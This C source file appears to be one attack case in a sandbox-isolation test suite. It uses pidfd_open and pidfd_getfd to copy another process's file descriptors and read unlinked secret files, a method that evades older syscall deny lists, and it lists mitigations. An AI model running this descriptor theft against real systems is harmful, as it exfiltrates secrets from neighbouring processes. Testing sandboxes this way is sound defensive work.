// SPDX-License-Identifier: MIT
/*
 * Goal:  a file that only the worker has open.
 * Means: pidfd_open(2) and pidfd_getfd(2), since Linux 5.6: a copy of a descriptor of another
 *        process, without ptrace(2) and without /proc. Lists made before them let them pass.
 */
#include "attacks/proc-read/neighbours.h"

#include <sys/pidfd.h>
#include <sys/stat.h>

#define HIGHEST 256

static bool rob(pid_t pid)
{
	int process = pidfd_open(pid, 0);
	char scratch[4096];
	bool robbed = false;
	struct stat st;

	for (int theirs = 3; process >= 0 && theirs < HIGHEST; theirs++) {
		int fd = pidfd_getfd(process, theirs, 0);
		ssize_t n = 0;

		if (fd < 0)
			continue;
		if (!fstat(fd, &st) && S_ISREG(st.st_mode) && !st.st_nlink)
			n = pread(fd, scratch, sizeof(scratch), 0); /* from the beginning */
		if (n > 0) {
			loot(scratch, (size_t)n);
			robbed = true;
		}
		close(fd);
	}
	if (process >= 0)
		close(process);
	return robbed;
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("pidfd_getfd");
}

const struct attack attack = {
	.effect = "a file that only the worker has open is read, although ptrace(2) is denied",
	.means = "pidfd_getfd(2), a number newer than most lists",
	.oracle = "secret:worker-fd",
	.id = "SCF-10",
	.attack_id = "T1106, CWE-184",
	.remedy = "an allow list of system calls; Landlock; a worker that is not dumpable",
	.refs = (const char *const[]){ "pidfd_getfd(2)", NULL },
	.run = run,
};
